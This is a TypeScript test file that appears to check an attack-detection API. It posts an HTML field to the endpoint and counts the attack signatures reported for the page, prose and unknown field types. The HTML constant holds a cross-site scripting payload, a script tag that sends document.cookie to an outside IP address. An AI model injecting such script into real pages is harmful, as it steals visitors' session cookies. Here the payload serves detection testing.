import { expect, test } from 'vitest';
import type { Database } from '../../src/platform/database/database.ts';
import type { Doors } from '../parts/intake/doors.ts';
import { BROWSER, ORGANIZATION } from '../parts/intake/reports.ts';
import { useDoors } from '../parts/intake/use-doors.ts';
import { post } from './requests.ts';

const HTML = '<h1>Hours</h1>\n<p>Nine to five</p>\n<script>fetch("https://203.0.113.9/?"+document.cookie)</script>';

let doors: Doors;
let database: Database;
useDoors((opened, fresh) => {
  doors = opened;
  database = fresh;
}, 'database');

test.each([
  ['page', 0],
  ['prose', 1],
  ['nothing that is known', 1],
])('of a field the sensor declares %s: attacks %i', async (kind, count) => {
  const reply = await post(doors, '/api/v1/sdk/detect', {
    request_metadata: {
      method: 'POST',
      path: '/draft',
      ip: '198.51.100.98',
      user_agent: BROWSER,
      headers: { 'content-type': 'application/json' },
      body: { html: HTML },
      fields: { html: kind },
    },
  });
  const [row] = await database.query<{ found: unknown[] | null }>(
    `SELECT detail->'attack_signatures' AS found FROM detections WHERE organization_id = $1 AND id = $2`,
    [ORGANIZATION, reply.json().detection_id],
  );
  expect(row?.found ?? []).toHaveLength(count);
});
